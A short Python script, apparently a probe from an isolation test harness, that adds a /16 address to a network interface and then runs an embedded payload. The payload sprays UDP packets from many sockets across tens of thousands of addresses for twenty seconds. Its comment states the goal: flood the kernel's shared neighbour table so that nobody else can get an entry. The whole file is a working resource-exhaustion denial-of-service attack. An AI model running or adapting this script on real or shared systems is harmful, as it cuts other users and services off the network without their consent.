# Makes the kernel's neighbour table, which is everybody's, so full that nobody else gets an entry.
import subprocess
import sys

FLOOD = """
import itertools, socket, time
talks = []
for _ in range(60):
    talk = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    talk.setblocking(False)
    talks.append(talk)
end = time.monotonic() + 20
for talk, number in zip(itertools.cycle(talks), itertools.cycle(range(2, 60000))):
    if time.monotonic() > end:
        break
    try:
        talk.sendto(b"x", (f"10.9.{number >> 8}.{number & 255}", 9))
    except OSError:
        pass
"""
subprocess.run(["server", "ip", "addr", "add", "10.9.255.1/16", "dev", "eth0"])
subprocess.run(["server", sys.executable, "-c", FLOOD])
